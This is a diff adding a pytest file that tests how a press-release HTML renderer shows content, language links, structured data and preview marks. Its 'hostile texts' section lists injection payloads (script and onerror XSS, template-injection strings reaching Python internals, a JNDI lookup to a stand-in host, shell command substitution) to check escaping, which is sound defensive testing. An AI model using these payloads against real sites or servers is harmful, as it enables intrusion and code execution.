@@ -1,0 +1,263 @@
+"""The page of an edition, as a browser, a screen reader and a search engine read it."""
+
+import json
+from html.parser import HTMLParser
+
+import pytest
+
+from toolkit.formats import html
+from toolkit.model import Block, Span, State
+
+from . import edition, labels, publication, text
+
+ALL = ("az", "en", "ru")
+VOID = {"meta", "link", "img"}
+
+
+class Page(HTMLParser):
+    """Every element of a page: its tag, attributes and text."""
+
+    def __init__(self, source):
+        super().__init__()
+        self.elements = []
+        self.open = []
+        self.feed(source)
+        self.close()
+        assert not self.open, "every element is closed"
+
+    def handle_starttag(self, tag, attributes):
+        element = {"tag": tag, "text": "", **dict(attributes)}
+        self.elements.append(element)
+        if tag not in VOID:
+            self.open.append(element)
+
+    def handle_endtag(self, tag):
+        assert self.open.pop()["tag"] == tag
+
+    def handle_data(self, data):
+        for element in self.open:
+            element["text"] += data
+
+    def all(self, tag, **attributes):
+        return [
+            one for one in self.elements if one["tag"] == tag and attributes.items() <= one.items()
+        ]
+
+    def one(self, tag, **attributes):
+        (found,) = self.all(tag, **attributes)
+        return found
+
+    def structured(self):
+        return json.loads(self.one("script")["text"])
+
+
+def page(*blocks, preview=False, languages=("en",), **fields):
+    made = publication(preview=preview, languages=languages)
+    return Page(html.render(edition(*blocks, **fields), made).decode("utf-8"))
+
+
+# ------------------------------------------------------------------ content
+
+
+def test_title_date_text_and_contact():
+    shown = page()
+    assert shown.one("html")["lang"] == "en"
+    assert shown.one("h1")["text"] == shown.one("title")["text"] == "Videoconference held in Guba"
+    assert shown.one("time") == {
+        "tag": "time",
+        "datetime": "2020-07-02",
+        "text": "Guba, 2 July 2020",
+    }
+    assert "A videoconference was held." in [one["text"] for one in shown.all("p")]
+    assert (shown.one("dt")["text"], shown.one("dd")["text"]) == ("Telephone", "916")
+
+
+@pytest.mark.parametrize(
+    ("block", "tag", "shown"),
+    [
+        (Block("heading", text("Background")), "article h2", "Background"),
+        (Block("list", items=(text("a"), text("b"))), "li", "ab"),
+        (Block("quote", text("We agree.")), "blockquote", "We agree."),
+        (Block("image", caption=text("Guba")), "figcaption", "Guba"),
+    ],
+)
+def test_each_kind_of_block_is_its_element(block, tag, shown):
+    found = page(block).all(tag.split()[-1])
+    assert "".join(one["text"] for one in found).startswith(shown)
+
+
+def test_a_quotation_names_its_speaker():
+    block = Block("quote", text("We agree."), attribution=text("Sabina Aliyeva"))
+    assert page(block).one("blockquote")["text"] == "We agree.— Sabina Aliyeva"
+
+
+def test_a_picture_has_its_address_and_words():
+    block = Block("image", alt="The “panel” & guests", source="photos/a b.jpg")
+    image = page(block).one("img")
+    assert image["src"] == "../../files/2020/guba-videoconference/photos/a%20b.jpg"
+    assert image["alt"] == "The “panel” & guests"
+
+
+def test_styles_and_links():
+    spans = (
+        Span("a", strong=True),
+        Span("b", emphasis=True),
+        Span("c", href="https://ombudsman.az/?a=1&b=2"),
+        Span("с", language="ru"),
+    )
+    shown = page(Block("paragraph", spans))
+    assert (shown.one("strong")["text"], shown.one("em")["text"]) == ("a", "b")
+    assert shown.one("a", text="c")["href"] == "https://ombudsman.az/?a=1&b=2"
+    assert shown.one("span", lang="ru")["text"] == "с"
+
+
+def test_number_topics_and_office_are_shown_where_there_are_any():
+    topics = Block("topics", items=(text("a"), text("b")))
+    shown = page(number="12", topics=topics, labels=labels(office_name="Office"))
+    assert shown.one("p", **{"class": "kicker"})["text"] == "Press release No. 12"
+    assert shown.one("p", **{"class": "topics"})["text"] == "Topics: a, b"
+    assert shown.one("p", **{"class": "office"})["text"] == "Office"
+    assert not [one for one in page().all("p") if one.get("class") in {"topics", "office"}]
+
+
+@pytest.mark.parametrize(
+    ("summary", "shown"),
+    [(text("In short."), "In short."), ((), "A videoconference was held.")],
+)
+def test_the_description_is_the_summary_or_the_first_paragraph(summary, shown):
+    assert page(summary=summary).one("meta", name="description")["content"] == shown
+
+
+def test_a_release_of_pictures_has_no_description():
+    assert page(Block("image")).one("meta", name="description")["content"] == ""
+
+
+# --------------------------------------------------------- other languages
+
+
+def test_readers_find_the_other_editions():
+    shown = page(languages=ALL)
+    assert shown.one("a", hreflang="az") == {
+        "tag": "a",
+        "href": "../../az/2020/guba-videoconference.html",
+        "lang": "az",
+        "hreflang": "az",
+        "text": "Azərbaycan dili",
+    }
+    assert shown.one("span", lang="en")["aria-current"] == "true"
+
+
+def test_search_engines_find_the_other_editions():
+    links = page(languages=ALL).all("link", rel="alternate")
+    address = "https://press.example.org/{}/2020/guba-videoconference.html"
+    assert {one["hreflang"]: one["href"] for one in links} == {
+        **{code: address.format(code) for code in ALL},
+        "x-default": address.format("en"),
+    }
+
+
+def test_without_an_english_edition_the_first_is_the_default():
+    links = page(languages=("az", "ru")).all("link", hreflang="x-default")
+    assert [one["href"].split("/")[3] for one in links] == ["az"]
+
+
+def test_a_lone_edition_offers_no_others():
+    assert not page().all("nav")
+
+
+def test_the_structured_data_are_the_releases():
+    data = page(languages=ALL, labels=labels(office_name="Office")).structured()
+    assert (data["@type"], data["headline"]) == ("NewsArticle", "Videoconference held in Guba")
+    assert (data["datePublished"], data["inLanguage"]) == ("2020-07-02", "en")
+    assert data["url"] == "https://press.example.org/en/2020/guba-videoconference.html"
+    assert data["publisher"]["name"] == "Office"
+    assert [one["inLanguage"] for one in data["workTranslation"]] == ["az", "ru"]
+
+
+def test_an_address_is_quoted():
+    made = publication(release="2020/qəza")
+    shown = Page(html.render(edition(), made).decode("utf-8"))
+    assert shown.structured()["url"].endswith("/en/2020/q%C9%99za.html")
+    assert shown.one("link", rel="canonical")["href"].endswith("/en/2020/q%C9%99za.html")
+
+
+# ------------------------------------------------------------------ preview
+
+
+def test_a_preview_says_so_and_stays_out_of_search_engines():
+    shown = page(preview=True)
+    assert shown.one("p", **{"class": "preview"})["text"] == "Preview: not for publication"
+    assert shown.one("meta", name="robots")["content"] == "noindex, nofollow"
+
+
+@pytest.mark.parametrize("kind", ["paragraph", "heading", "list", "quote", "image"])
+@pytest.mark.parametrize("state", [State.MISSING, State.STALE, State.DRAFT, State.FUZZY])
+def test_a_preview_marks_what_nobody_reviewed(kind, state):
+    shown = page(Block(kind, text("A."), state=state), preview=True)
+    (marked,) = [one for one in shown.elements if one.get("class") == "unreviewed"]
+    assert marked["data-note"] == "not reviewed"
+
+
+def test_a_preview_marks_everything_around_the_text_too():
+    draft = Block("paragraph", text("A."), items=(text("a"),), state=State.DRAFT)
+    shown = page(preview=True, title=draft, dateline=draft, topics=draft, boilerplate=(draft,))
+    assert [one["class"] for one in shown.elements if one.get("data-note")] == [
+        "unreviewed",
+        "dateline unreviewed",
+        "topics unreviewed",
+        "unreviewed",
+    ]
+
+
+def test_a_published_page_has_no_marks():
+    source = html.render(edition(), publication()).decode("utf-8")
+    for mark in ('class="unreviewed"', 'class="preview"', "noindex"):
+        assert mark not in source
+
+
+# ------------------------------------------------------------ hostile texts
+
+HOSTILE = [
+    "<script>alert(1)</script> & \"q\" 's'",
+    "--><script>alert(1)</script><!--",
+    "]]><evil/>",
+    "</script></title></style><img src=1 onerror=alert(1)>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1">',
+    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3C;",
+    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} {# c #}",
+    '{% trans %}x{% endtrans %} {{ _("x") }} %(x)s',
+    "Set {x} {0} {{y}} {x.__class__.__init__.__globals__} {:>99999999}",
+    "${jndi:ldap://evil/a} $(id) `id`",
+]
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_a_text_is_shown_letter_by_letter_wherever_it_stands(words):
+    shown = page(
+        Block("paragraph", text(words)),
+        Block("image", alt=words, caption=text(words)),
+        title=Block("title", text(words)),
+        dateline=Block("dateline", text(words)),
+        topics=Block("topics", items=(text(words),)),
+        contact={words: words},
+    )
+    places = ["h1", "title", "time", "figcaption", "dt", "dd"]
+    assert [shown.one(tag)["text"] for tag in places] == [words] * len(places)
+    assert shown.one("img")["alt"] == words
+    assert shown.one("meta", name="description")["content"] == words
+    assert shown.structured()["headline"] == words
+    assert words in [one["text"] for one in shown.all("p")]
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_a_text_adds_no_element(words):
+    tags = [one["tag"] for one in page(title=Block("title", text(words))).elements]
+    assert tags == [one["tag"] for one in page().elements]
+
+
+def test_a_note_with_quotation_marks_stays_inside_its_attribute():
+    draft = Block("paragraph", text("A."), state=State.DRAFT)
+    shown = page(draft, preview=True, labels=labels(unreviewed='a" onclick="b'))
+    (marked,) = [one for one in shown.elements if one.get("class") == "unreviewed"]
+    assert marked["data-note"] == 'a" onclick="b'
+    assert "onclick" not in marked
